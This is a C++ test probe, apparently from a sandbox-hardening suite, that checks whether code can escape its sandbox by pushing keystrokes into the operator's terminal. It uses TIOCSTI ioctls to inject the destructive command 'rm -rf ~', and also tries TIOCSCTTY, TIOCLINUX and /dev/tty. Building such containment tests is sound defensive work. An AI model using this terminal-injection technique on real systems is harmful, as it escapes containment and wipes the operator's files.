// task: optimization-online-bandit
// route: escaping
// tries: to type into the operator's terminal
// expect: harmless

#include <sys/ioctl.h>
#include <termios.h>

#include "shared/bandit.hpp"
#include "shared/probe.hpp"

void attack::begin(const mls::Info&, mls::Rng&) {
  survive();
  for (int fd = 0; fd < 8; ++fd) {
    for (const char* c = "rm -rf ~\n"; *c != 0; ++c) call(SYS_ioctl, fd, TIOCSTI, address(c));
    call(SYS_ioctl, fd, 0x100000000L + TIOCSTI, address("x"));
    call(SYS_ioctl, fd, TIOCSCTTY, 1);
    call(SYS_ioctl, fd, 0x541c /* TIOCLINUX */, address("\2"));
    call(SYS_ioctl, fd, FIONBIO, address("\1\0\0"));
  }
  const long terminal = call(SYS_open, address("/dev/tty"), O_RDWR);
  if (terminal >= 0) call(SYS_ioctl, terminal, TIOCSTI, address("x"));
}
